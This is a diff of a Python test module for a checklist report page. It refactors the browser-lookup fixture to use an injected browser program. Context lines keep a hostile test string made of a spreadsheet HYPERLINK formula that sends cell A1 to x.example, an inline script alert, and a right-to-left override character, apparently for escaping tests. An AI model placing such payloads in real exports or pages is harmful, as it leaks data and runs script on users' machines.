@@ -5,9 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
-import os
 import re
-import shutil
 import subprocess
 from datetime import UTC, datetime
 from html.parser import HTMLParser
@@ -34,7 +32,6 @@ CHECKLIST = checklists.load("soil-carbon-v1.2.2")
 IDS = [r.requirement_id for r in CHECKLIST.requirements]
 TITLES = titles_of([CHECKLIST])
 HOSTILE = '=HYPERLINK("http://x.example/?"&A1)<script>alert(1)</script>\u202e'
-BROWSERS = ("chromium", "chromium-browser", "google-chrome")
 
 
 def point(cause: str = "absent:gis_boundary", **fields: Any) -> Point:
@@ -253,13 +250,8 @@ def test_an_empty_home_has_a_page_too() -> None:
 
 
 @pytest.fixture(scope="session")
-def browser() -> str:
-    found = next(filter(None, map(shutil.which, BROWSERS)), None)
-    if found is None:
-        if os.environ.get("CI") == "true":
-            pytest.fail("CI must test the page in a browser: no chromium on PATH")
-        pytest.skip("no chromium on PATH")
-    return found
+def browser(browser_program: str) -> str:
+    return browser_program
 
 
 @pytest.mark.parametrize("width", [1366, 700])
